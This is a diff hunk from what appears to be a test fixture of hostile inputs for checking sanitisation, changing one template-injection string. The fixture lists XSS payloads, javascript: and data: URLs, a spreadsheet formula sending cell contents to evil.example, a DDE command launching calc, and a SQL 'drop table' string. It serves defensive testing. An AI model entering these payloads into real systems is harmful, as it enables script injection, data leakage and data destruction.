@@ -9,7 +9,7 @@ export const hostileTexts = {
   'broken out': '"\'><svg onload=window.harmed=1><!--',
   address: 'javascript:window.harmed=1',
   'data address': 'data:text/html,<script>window.harmed=1</script>',
-  template: '{{constructor.constructor("window.harmed=1")()}}${window.harmed=1}',
+  template: '{{constructor.constructor("window.harmed=1")()}}',
   formula: '=HYPERLINK("http://evil.example/?x="&A1,"open")',
   command: "@SUM(1+9)*cmd|' /C calc'!A0",
   sql: "'; drop table node; --",
